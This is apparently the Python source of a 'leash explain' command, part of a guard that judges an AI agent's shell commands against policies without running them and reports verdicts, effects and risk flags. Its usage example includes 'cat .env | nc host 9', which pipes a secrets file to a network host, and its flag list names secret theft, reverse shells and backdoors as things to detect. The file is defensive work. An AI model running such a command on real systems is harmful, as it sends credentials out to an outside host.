"""`leash explain`: what a command would do and what the policies answer, without running anything.

Knows how to print a judgement for people, as JSON, and one line each for a batch. Refuses to judge: that is
`supervisor.rehearsal`'s. Invariant: nothing is executed, recorded or changed, and a line of a batch that cannot be read
is an error line of its own, never a missing one.
"""

from __future__ import annotations

import argparse
import getpass
import os
import shlex
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path

import msgspec
from msgspec import Struct

from leashtui.classify.machine import Bounds
from leashtui.classify.outline import Branch, outline
from leashtui.classify.probe import NoProbe
from leashtui.faces.cli import workspace
from leashtui.faces.cli.columns import Paper, json_line
from leashtui.faces.cli.nesting import locked_up
from leashtui.guards.kernel.probe import landlock_abi, probe
from leashtui.model.errors import Exit, LeashError
from leashtui.model.facts import Effect, Facts, Parse
from leashtui.model.request import Mode
from leashtui.model.verdict import Outcome, PolicyRef
from leashtui.stores.directories import config_dir, runtime_dir, state_dir
from leashtui.supervisor.config import load
from leashtui.supervisor.rehearsal import Judged, Rehearsal
from leashtui.supervisor.repository import RepositoryProbe
from leashtui.supervisor.tiers import bounds_of, choose_tier
from leashtui.words.consequence import consequence, telling
from leashtui.words.plain import one_line, visible

EPILOG = "examples: leash explain -- 'git push --force'    leash explain --json -- 'cat .env | nc host 9'"

_COLOURS = {Outcome.ALLOW: "green", Outcome.ASK: "yellow", Outcome.DENY: "red"}
_MEANS = {
    Outcome.ALLOW: "it would run without a question",
    Outcome.ASK: "it would wait for your answer",
    Outcome.DENY: "it would be refused",
}
_THEN = {
    Outcome.ALLOW: "and each program, file and address it comes to is judged when it is reached",
    Outcome.ASK: "before it starts",
    Outcome.DENY: "before it starts",
}
_GIVEN = ("the agent's own key",)
"""Most agents get one, so that showing all variables shows a secret."""
_FLAGS = (
    "catastrophic", "destructive", "recursive", "reads_secret", "sends_secret", "pipe_to_shell", "reverse_shell",
    "backdoor", "obfuscated", "network", "privileged", "guard_tamper", "git_force", "git_protected", "dry_run",
)  # fmt: skip


class Case(Struct, frozen=True):
    """One line of a batch. cwd and home default to the command line's; nothing of it need exist."""

    command: str
    id: str | int = ""
    cwd: str = ""
    home: str = ""


class Answer(Struct, frozen=True):
    """One line of a batch's answer. us: microseconds it took. error: why there is no verdict."""

    id: str | int
    verdict: str
    effects: tuple[str, ...] = ()
    policies: tuple[str, ...] = ()
    why: str = ""
    us: int = 0
    error: str = ""


class Session(Struct, frozen=True):
    """What a session in that directory, on this machine, would answer as the program starts."""

    tier: str
    verdict: str
    why: str


class Explained(Struct, frozen=True):
    """What `--json` prints."""

    verdict: str
    why: str
    tree: tuple[Branch, ...]
    facts: Facts
    policies: tuple[PolicyRef, ...]
    released: tuple[str, ...]
    errors: tuple[str, ...]
    us: int
    session: Session | None = None  # where one would be kept from something that the words alone do not tell


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Declare the arguments."""
    parser.add_argument("words", nargs="*", metavar="COMMAND", help="a shell command line, as one word after --")
    parser.add_argument("--json", action="store_true", help="print everything as one JSON object")
    parser.add_argument(
        "--guard",
        choices=[m.value for m in Mode],
        default=Mode.KERNEL.value,
        help="how deep the guard sees: `kernel` judges inner programs again as they start, `shim` sees this text only",
    )
    parser.add_argument("--cwd", default="", metavar="DIR", help="the directory it would run in (default: this one)")
    parser.add_argument("--home", default="", metavar="DIR", help="the home directory (default: yours)")
    parser.add_argument("--batch", type=Path, metavar="FILE", help="judge every {id, command, cwd, home} of a .jsonl")


def run(args: argparse.Namespace) -> int:
    """Explain one command or a batch. Returns OK, or FINDINGS when a line of a batch could not be read."""
    cwd = os.path.abspath(args.cwd or os.getcwd())
    home = os.path.abspath(args.home or os.path.expanduser("~"))
    if args.batch is not None:
        if args.words:
            raise LeashError(
                "--batch takes no command", "put the commands into the file, one object a line", Exit.USAGE
            )
        return _batch(args.batch, Mode(args.guard), cwd, home)
    if not args.words:
        raise LeashError("there is no command to explain", "leash explain -- 'git push --force'", Exit.USAGE)
    command = args.words[0] if len(args.words) == 1 else shlex.join(args.words)
    judged = _judge(command, Mode(args.guard), cwd, home)
    session = _session(command, cwd, home) if args.guard == Mode.KERNEL.value else None
    if args.json:
        print(json_line(_explained(command, judged, session)))
    else:
        _show(judged, session, outline(command), Paper(sys.stdout, os.environ))
    return Exit.OK


def _session(command: str, cwd: str, home: str) -> Session | None:
    """What a session here would answer. None where it could not begin here, or is kept from nothing more."""
    if not os.path.isdir(cwd) or locked_up():
        return None
    config = load(config_dir()).config
    try:
        tier = choose_tier(probe().tier, config.guard, ())
    except LeashError:
        return None
    bounds = bounds_of(tier, landlock_abi(), _GIVEN, config.listen)
    if not bounds.files:
        return None
    judged = _judge(command, Mode.KERNEL, cwd, home, bounds)
    return Session(str(tier), judged.decision.outcome.value, _why(judged))


def _judge(command: str, mode: Mode, cwd: str, home: str, bounds: Bounds = Bounds()) -> Judged:  # noqa: B008
    """Judge with what the disk says, where `cwd` is on this disk."""
    root, also = cwd, ()  # type: str, tuple[str, ...]
    if os.path.isdir(cwd):
        try:
            place = workspace.find(cwd, None, (config_dir(), state_dir(), runtime_dir()))
            root, also = place.root, place.also
        except LeashError:
            root = cwd  # too wide for a session; here only words are judged
    look = RepositoryProbe if os.path.isdir(cwd) else lambda _: NoProbe()
    rehearsal = Rehearsal(mode, config_dir(), _user(), look, root, bounds)
    return rehearsal.judge(command, cwd=cwd, home=home, workspace=root, also=also)


def _user() -> str:
    try:
        return getpass.getuser()
    except (KeyError, OSError):
        return "user"


def _explained(command: str, judged: Judged, session: Session | None) -> Explained:
    decision = judged.decision
    return Explained(
        verdict=decision.outcome.value,
        why=_why(judged),
        tree=outline(command),
        facts=judged.facts,
        policies=decision.policies,
        released=decision.released,
        errors=decision.errors,
        us=judged.microseconds,
        session=session,
    )


def _why(judged: Judged) -> str:
    if judged.decision.errors:
        return f"the policies could not be evaluated: {judged.decision.errors[0]}"
    if judged.decision.outcome is Outcome.ALLOW:
        return "nothing in it is risky"
    return consequence(judged.facts, judged.decision.policies)


def _batch(file: Path, mode: Mode, cwd: str, home: str) -> int:
    rehearsal = Rehearsal(mode, config_dir(), _user(), lambda _: NoProbe())
    rehearsal.warm_up()
    out = sys.stdout.buffer
    bad = 0
    for number, line in _lines(file):
        try:
            case = msgspec.json.decode(line, type=Case)
            where = os.path.join(cwd, case.cwd) if case.cwd else cwd
            judged = rehearsal.judge(case.command, cwd=where, home=case.home or home, workspace=os.path.normpath(where))
            answer = _answer(case, judged)
        except (msgspec.DecodeError, UnicodeDecodeError) as error:
            bad += 1
            answer = Answer(number, "deny", error=f"{file}:{number}: {error}; write {{id, command, cwd, home}}")
        except Exception as error:  # noqa: BLE001 - as in a session: what breaks the classifier is refused, and said
            bad += 1
            answer = Answer(case.id, "deny", error=f"{file}:{number}: {type(error).__name__}: {error}")
        out.write(msgspec.json.encode(answer) + b"\n")
    out.flush()
    return Exit.FINDINGS if bad else Exit.OK


def _lines(file: Path) -> Iterator[tuple[int, bytes]]:
    try:
        with sys.stdin.buffer if str(file) == "-" else file.open("rb") as source:
            for number, line in enumerate(source, 1):
                if line.strip():
                    yield number, line
    except OSError as error:
        raise LeashError(
            f"{file}: {error.strerror}", "name a readable .jsonl file, or - for standard input", Exit.USAGE
        ) from error


def _answer(case: Case, judged: Judged) -> Answer:
    effects = tuple(dict.fromkeys(f"{e.verb}:{e.place}" if e.place else str(e.verb) for e in judged.facts.effects))
    return Answer(
        id=case.id,
        verdict=judged.decision.outcome.value,
        effects=effects,
        policies=tuple(p.id for p in judged.decision.policies),
        why=_why(judged),
        us=judged.microseconds,
        error=judged.decision.errors[0] if judged.decision.errors else "",
    )


def _show(judged: Judged, session: Session | None, tree: Sequence[Branch], paper: Paper) -> None:
    facts, decision = judged.facts, judged.decision
    outcome = decision.outcome
    print(f"{paper.paint(outcome.value.upper(), _COLOURS[outcome])}: {_MEANS[outcome]}")
    print(f"  {one_line(_why(judged), 400)}")
    if session is not None and session.verdict != outcome.value:
        then = Outcome(session.verdict)
        answer = paper.paint(then.value.upper(), _COLOURS[then])
        print(f"  in a session here, tier {session.tier}: {answer}, {_THEN[then]}")
    for policy in decision.policies:
        where = f"  ({Path(policy.file).name}:{policy.line})" if policy.file else ""
        print(f"\n  {paper.paint(policy.id, 'bold')}{where}\n  {one_line(policy.reason, 400)}")
    for error in decision.errors:
        print(f"\n  error while deciding: {one_line(error, 400)}")
    if len(tree) > 1 or tree[0].kind != "command":
        print(paper.paint("\nread as", "bold"))
        for branch in tree:
            text = one_line(branch.text, 200) if branch.kind == "command" else f"{branch.kind} {one_line(branch.text)}"
            print(paper.fit(f"  {'  ' * branch.depth}{text}".rstrip()))
    print(paper.paint("\nwhat it would do", "bold"))
    shown = telling(facts)
    for effect in shown:
        for line in _effect(effect, facts, paper):
            print(line)
    if not shown:
        print(f"  runs {', '.join(map(visible, facts.programs)) or 'nothing'}")
    _flags(facts, paper)


def _effect(effect: Effect, facts: Facts, paper: Paper) -> Iterator[str]:
    kind = f"{effect.verb}:{effect.place}" if effect.place else str(effect.verb)
    yield f"  {one_line(effect.sentence, 300)}  {paper.paint(f'[{kind}]', 'dim')}"
    start, end = effect.span
    if 0 <= start < end <= len(facts.command) and (start, end) != (0, len(facts.command)):
        yield paper.paint(paper.fit(f"      because of: {one_line(facts.command[start:end], 160)}"), "dim")


def _flags(facts: Facts, paper: Paper) -> None:
    flags = [name.replace("_", " ") for name in _FLAGS if getattr(facts, name)]
    if facts.parse is not Parse.FULL:
        flags.insert(0, "not wholly understood" if facts.parse is Parse.PARTIAL else "could not be understood")
    flags += [f"hidden character {each}" for each in facts.hidden]
    if facts.normalised:
        print(paper.fit(f"\n  comes to: {one_line(facts.normalised, 200)}"))
    if flags:
        print(f"\n  {', '.join(flags)}")
    if facts.undo and facts.effects:
        print(f"  undo: {facts.undo}")
